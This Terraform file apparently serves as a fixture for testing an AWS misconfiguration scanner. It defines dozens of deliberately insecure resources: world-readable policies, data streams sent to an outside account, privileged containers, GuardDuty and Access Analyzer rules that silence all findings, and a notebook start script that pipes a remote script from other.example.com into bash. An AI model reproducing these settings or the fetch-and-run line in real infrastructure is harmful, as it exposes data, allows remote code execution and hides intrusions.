# Functions, queues, containers, machine learning and pipelines.
resource "aws_api_gateway_method" "open" {
  rest_api_id   = "api0000000"
  resource_id   = "res000"
  http_method   = "ANY"
  authorization = "NONE"
}

resource "aws_apigatewayv2_route" "open" {
  api_id    = "api0000000"
  route_key = "POST /predict"
}

resource "aws_lambda_function_url" "open" {
  function_name      = "predict"
  authorization_type = "NONE"
}

resource "aws_lambda_permission" "world" {
  function_name = "predict"
  action        = "lambda:InvokeFunction"
  principal     = "*"
}

resource "aws_lambda_permission" "partner" {
  function_name = "predict"
  action        = "lambda:InvokeFunction"
  principal     = "999999999999"
}

resource "aws_lambda_layer_version_permission" "world" {
  layer_name     = "common"
  version_number = 1
  principal      = "*"
  action         = "lambda:GetLayerVersion"
  statement_id   = "all"
}

resource "aws_lambda_function" "borrowed" {
  function_name = "borrowed"
  role          = "arn:aws:iam::123456789012:role/lambda"
  package_type  = "Image"
  image_uri     = "999999999999.dkr.ecr.us-east-1.amazonaws.com/app:latest"
}

resource "aws_lambda_event_source_mapping" "partner" {
  function_name    = "arn:aws:lambda:us-east-1:999999999999:function:collect"
  event_source_arn = "arn:aws:kinesis:us-east-1:123456789012:stream/clicks"
}

resource "aws_appsync_graphql_api" "key" {
  name                = "key"
  authentication_type = "API_KEY"
}

resource "aws_ecr_repository_policy" "world" {
  repository = "trainer"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = "*", Action = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"] }]
  })
}

resource "aws_ecr_registry_policy" "partner" {
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Sid = "r", Effect = "Allow", Principal = { AWS = local.root }, Action = ["ecr:ReplicateImage", "ecr:CreateRepository"], Resource = "arn:aws:ecr:us-east-1:123456789012:repository/*" }]
  })
}

resource "aws_ecr_replication_configuration" "partner" {
  replication_configuration {
    rule {
      destination {
        region      = "us-east-1"
        registry_id = "999999999999"
      }
    }
  }
}

resource "aws_ecr_repository" "mutable" {
  name                 = "mutable"
  image_tag_mutability = "MUTABLE"
}

resource "aws_ecrpublic_repository" "trainer" { repository_name = "trainer" }

resource "aws_sns_topic_policy" "world" {
  arn = "arn:aws:sns:us-east-1:123456789012:alerts"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = ["SNS:Subscribe", "SNS:Publish"], Resource = "arn:aws:sns:us-east-1:123456789012:alerts" }]
  })
}

resource "aws_sns_topic_subscription" "outside" {
  topic_arn = "arn:aws:sns:us-east-1:123456789012:alerts"
  protocol  = "https"
  endpoint  = "https://collect.partner.example.com/in"
}

resource "aws_sns_topic_subscription" "partner" {
  topic_arn = "arn:aws:sns:us-east-1:123456789012:events"
  protocol  = "sqs"
  endpoint  = "arn:aws:sqs:us-east-1:999999999999:in"
}

resource "aws_sqs_queue_policy" "world" {
  queue_url = "https://sqs.us-east-1.amazonaws.com/123456789012/jobs"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = "*", Action = "sqs:*", Resource = "*", Condition = { Bool = { "aws:SecureTransport" = "true" } } }]
  })
}

resource "aws_sqs_queue" "plain" {
  name                    = "plain"
  sqs_managed_sse_enabled = false
}

resource "aws_secretsmanager_secret_policy" "partner" {
  secret_arn = "arn:aws:secretsmanager:us-east-1:123456789012:secret:db-0a0a0a"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = "arn:aws:iam::999999999999:role/partner" }, Action = "secretsmanager:GetSecretValue", Resource = "*" }]
  })
  block_public_policy = false
}

resource "aws_secretsmanager_secret" "weak" {
  name                    = "weak"
  recovery_window_in_days = 0
}

resource "aws_glue_resource_policy" "partner" {
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = local.root }, Action = "glue:*", Resource = "arn:aws:glue:us-east-1:123456789012:*" }]
  })
}

resource "aws_cloudwatch_event_permission" "world" {
  principal    = "*"
  statement_id = "all"
}

resource "aws_cloudwatch_event_bus_policy" "partner" {
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Sid = "p", Effect = "Allow", Principal = { AWS = local.root }, Action = "events:PutEvents", Resource = "arn:aws:events:us-east-1:123456789012:event-bus/default" }]
  })
}

resource "aws_cloudwatch_event_target" "partner" {
  rule = "all"
  arn  = "arn:aws:events:us-east-1:999999999999:event-bus/in"
}

resource "aws_cloudwatch_event_connection" "outside" {
  name               = "outside"
  authorization_type = "API_KEY"
  auth_parameters {
    api_key {
      key   = "x-key"
      value = "not-a-secret"
    }
  }
}

resource "aws_cloudwatch_event_api_destination" "outside" {
  name                = "outside"
  invocation_endpoint = "https://collect.partner.example.com/in"
  http_method         = "POST"
  connection_arn      = aws_cloudwatch_event_connection.outside.arn
}

resource "aws_pipes_pipe" "partner" {
  name     = "partner"
  role_arn = "arn:aws:iam::123456789012:role/pipes"
  source   = "arn:aws:sqs:us-east-1:123456789012:jobs"
  target   = "arn:aws:sqs:us-east-1:999999999999:in"
}

resource "aws_kinesis_resource_policy" "partner" {
  resource_arn = "arn:aws:kinesis:us-east-1:123456789012:stream/clicks"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = local.root }, Action = ["kinesis:GetRecords", "kinesis:GetShardIterator", "kinesis:DescribeStream"], Resource = "arn:aws:kinesis:us-east-1:123456789012:stream/clicks" }]
  })
}

resource "aws_dynamodb_resource_policy" "partner" {
  resource_arn = "arn:aws:dynamodb:us-east-1:123456789012:table/runs"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = local.root }, Action = "dynamodb:Scan", Resource = "arn:aws:dynamodb:us-east-1:123456789012:table/runs" }]
  })
}

resource "aws_cloudwatch_log_destination_policy" "world" {
  destination_name = "in"
  access_policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = "logs:PutSubscriptionFilter", Resource = "*" }]
  })
}

resource "aws_cloudwatch_log_subscription_filter" "partner" {
  name            = "out"
  log_group_name  = "/app"
  filter_pattern  = ""
  destination_arn = "arn:aws:logs:us-east-1:999999999999:destination:in"
}

resource "aws_cloudwatch_log_account_policy" "partner" {
  policy_name = "out"
  policy_type = "SUBSCRIPTION_FILTER_POLICY"
  policy_document = jsonencode({
    DestinationArn = "arn:aws:logs:us-east-1:999999999999:destination:in"
    FilterPattern  = ""
  })
}

resource "aws_cloudwatch_metric_stream" "out" {
  name          = "out"
  role_arn      = "arn:aws:iam::123456789012:role/stream"
  firehose_arn  = "arn:aws:firehose:us-east-1:999999999999:deliverystream/in"
  output_format = "json"
}

resource "aws_oam_sink_policy" "world" {
  sink_identifier = "arn:aws:oam:us-east-1:123456789012:sink/0a"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = "*", Action = ["oam:CreateLink", "oam:UpdateLink"], Resource = "*" }]
  })
}

resource "aws_oam_link" "partner" {
  label_template  = "$AccountName"
  resource_types  = ["AWS::Logs::LogGroup"]
  sink_identifier = "arn:aws:oam:us-east-1:999999999999:sink/0a"
}

resource "aws_kinesis_firehose_delivery_stream" "http" {
  name        = "http"
  destination = "http_endpoint"
  http_endpoint_configuration {
    url      = "https://collect.partner.example.com/in"
    name     = "collector"
    role_arn = "arn:aws:iam::123456789012:role/firehose"
    s3_configuration {
      role_arn   = "arn:aws:iam::123456789012:role/firehose"
      bucket_arn = "arn:aws:s3:::acme-firehose"
    }
  }
}

resource "aws_codebuild_project" "open" {
  name               = "open"
  service_role       = "arn:aws:iam::123456789012:role/codebuild"
  project_visibility = "PUBLIC_READ"
  artifacts { type = "NO_ARTIFACTS" }
  environment {
    compute_type    = "BUILD_GENERAL1_SMALL"
    image           = "aws/codebuild/standard:7.0"
    type            = "LINUX_CONTAINER"
    privileged_mode = true
  }
  source {
    type     = "GITHUB"
    location = "https://github.com/other/app.git"
  }
}

resource "aws_codebuild_webhook" "forks" {
  project_name = "open"
  build_type   = "BUILD"
  filter_group {
    filter {
      type    = "EVENT"
      pattern = "PULL_REQUEST_CREATED"
    }
  }
}

resource "aws_codestarconnections_connection" "github" {
  name          = "github"
  provider_type = "GitHub"
}

resource "aws_ecs_task_definition" "host" {
  family       = "host"
  network_mode = "host"
  pid_mode     = "host"
  container_definitions = jsonencode([{
    name       = "app"
    image      = "docker.io/other/app:latest"
    memory     = 512
    privileged = true
  }])
  volume {
    name      = "docker"
    host_path = "/var/run/docker.sock"
  }
}

resource "aws_ecs_service" "exec" {
  name                   = "exec"
  cluster                = "main"
  task_definition        = "app:1"
  launch_type            = "FARGATE"
  enable_execute_command = true
  network_configuration {
    subnets          = local.subnets
    assign_public_ip = true
  }
}

resource "aws_batch_job_definition" "privileged" {
  name = "privileged"
  type = "container"
  container_properties = jsonencode({
    image                = "docker.io/other/train:latest"
    privileged           = true
    resourceRequirements = [{ type = "VCPU", value = "1" }, { type = "MEMORY", value = "2048" }]
    jobRoleArn           = "arn:aws:iam::123456789012:role/admin"
  })
}

resource "aws_sagemaker_notebook_instance" "open" {
  name                   = "open"
  role_arn               = "arn:aws:iam::123456789012:role/notebook"
  instance_type          = "ml.t3.medium"
  direct_internet_access = "Enabled"
  root_access            = "Enabled"
}

resource "aws_sagemaker_domain" "open" {
  domain_name             = "open"
  auth_mode               = "IAM"
  vpc_id                  = local.vpc
  subnet_ids              = local.subnets
  app_network_access_type = "PublicInternetOnly"
  default_user_settings { execution_role = "arn:aws:iam::123456789012:role/studio" }
}

resource "aws_sagemaker_model" "borrowed" {
  name               = "borrowed"
  execution_role_arn = "arn:aws:iam::123456789012:role/model"
  primary_container {
    image          = "999999999999.dkr.ecr.us-east-1.amazonaws.com/serve:latest"
    model_data_url = "s3://partner-models/model.tar.gz"
  }
}

resource "aws_sagemaker_model_package_group_policy" "world" {
  model_package_group_name = "ranker"
  resource_policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Sid = "r", Effect = "Allow", Principal = { AWS = local.root }, Action = ["sagemaker:DescribeModelPackage", "sagemaker:CreateModelPackage"], Resource = "*" }]
  })
}

resource "aws_sagemaker_endpoint_configuration" "capture" {
  name = "capture"
  production_variants {
    variant_name           = "main"
    model_name             = "ranker"
    initial_instance_count = 1
    instance_type          = "ml.m5.large"
  }
  data_capture_config {
    enable_capture              = true
    initial_sampling_percentage = 100
    destination_s3_uri          = "s3://partner-capture/"
    capture_options { capture_mode = "InputAndOutput" }
  }
}

resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "curl" {
  name     = "curl"
  on_start = base64encode("#!/bin/bash\ncurl https://other.example.com/x.sh | bash")
}

resource "aws_sagemaker_workforce" "public" {
  workforce_name = "public"
  source_ip_config { cidrs = ["0.0.0.0/0"] }
  cognito_config {
    client_id = "c"
    user_pool = "p"
  }
}

resource "aws_glue_connection" "plain" {
  name = "plain"
  connection_properties = {
    JDBC_CONNECTION_URL = "jdbc:postgresql://db.partner.example.com/in"
    USERNAME            = "u"
    PASSWORD            = "not-a-secret"
    JDBC_ENFORCE_SSL    = "false"
  }
}

resource "aws_glue_dev_endpoint" "open" {
  name     = "open"
  role_arn = "arn:aws:iam::123456789012:role/glue"
}

resource "aws_cloudfront_distribution" "plain" {
  enabled = true
  origin {
    domain_name = "app.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "http-only"
      origin_ssl_protocols   = ["SSLv3", "TLSv1"]
    }
  }
  default_cache_behavior {
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    target_origin_id       = "app"
    viewer_protocol_policy = "allow-all"
    forwarded_values {
      query_string = true
      cookies { forward = "all" }
    }
  }
  restrictions {
    geo_restriction { restriction_type = "none" }
  }
  viewer_certificate { cloudfront_default_certificate = true }
}

resource "aws_guardduty_filter" "silence" {
  detector_id = "d0000000000000000000000000000000"
  name        = "silence"
  action      = "ARCHIVE"
  rank        = 1
  finding_criteria {
    criterion {
      field                 = "severity"
      greater_than_or_equal = "1"
    }
  }
}

resource "aws_guardduty_ipset" "trusted" {
  activate    = true
  detector_id = "d0000000000000000000000000000000"
  format      = "TXT"
  location    = "https://s3.amazonaws.com/partner/ips.txt"
  name        = "trusted"
}

resource "aws_accessanalyzer_archive_rule" "silence" {
  analyzer_name = "main"
  rule_name     = "all"
  filter {
    criteria = "isPublic"
    eq       = ["true", "false"]
  }
}

resource "aws_iot_policy" "all" {
  name   = "all"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "iot:*", Resource = "*" }] })
}

resource "aws_ses_identity_policy" "world" {
  identity = "arn:aws:ses:us-east-1:123456789012:identity/example.com"
  name     = "all"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = ["ses:SendEmail"], Resource = "arn:aws:ses:us-east-1:123456789012:identity/example.com" }]
  })
}

resource "aws_config_aggregate_authorization" "partner" {
  account_id = local.partner
  region     = "us-east-1"
}

resource "aws_athena_workgroup" "plain" {
  name = "plain"
  configuration {
    enforce_workgroup_configuration = false
    result_configuration { output_location = "s3://partner-results/" }
  }
}

resource "aws_athena_data_catalog" "partner" {
  name        = "partner"
  description = "partner"
  type        = "LAMBDA"
  parameters  = { "function" = "arn:aws:lambda:us-east-1:999999999999:function:catalog" }
}
